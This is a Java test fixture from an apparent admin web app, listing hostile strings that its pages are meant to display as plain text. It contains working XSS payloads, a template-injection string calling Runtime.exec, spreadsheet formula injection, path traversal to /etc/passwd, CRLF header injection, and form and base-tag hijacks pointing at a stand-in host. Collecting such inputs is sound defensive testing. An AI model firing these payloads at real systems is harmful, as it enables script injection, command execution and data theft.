// SPDX-License-Identifier: Apache-2.0
package io.anteroom.admin.web;

import java.util.List;

/** Names as nobody should choose them. Every page shows them as text, and nothing of them runs. */
public final class HostileStrings {
    /** All of them, of at most 128 characters and without control characters but where they are about these. */
    public static final List<String> NAMES = List.of(
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(1)</script>",
            "'><svg/onload=alert(1)>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "<!--<script>alert(1)//-->",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "\" autofocus onfocus=alert(1) x=\"",
            "' style='position:fixed;inset:0;background:red",
            "<base href=//evil.example/>",
            "<form action=//evil.example><input name=csrf_token>",
            "<a href=//evil.example hx-get=//evil.example hx-trigger=load>x</a>",
            "${7*7} #{7*7} *{7*7}",
            "[[${7*7}]] [(${7*7})]",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "~{layout :: page}",
            "{{constructor.constructor('alert(1)')()}}",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "../../etc/passwd",
            "..%2f..%2fadmin",
            "a/b?c=d&e=f#g;h",
            "100 % & more; \u00e4\u00f6\u00fc \u20ac \u6f22\u5b57",
            "\u202egnp.exe\u202c",
            "\u200b\u200d\ufeffinvisible",
            "\ud83d\ude80\ud83c\udf46\ud83d\udc69\u200d\ud83d\udcbb",
            "Z\u0351\u0352\u0353\u0354\u0355\u0356a\u0357\u0358\u0359l\u035a\u035b\u035cg\u035d\u035e\u035fo",
            "null",
            "W".repeat(128));

    /** What only some places take: control characters, and 10,000 characters. */
    public static final List<String> RAW = List.of(
            "a\u0000b",
            "a\r\nSet-Cookie: evil=1\r\n\r\n<b>",
            "a\nb\tc",
            "\u001b[31mred",
            "\u2028\u2029",
            "x".repeat(10_000));

    private HostileStrings() {}
}
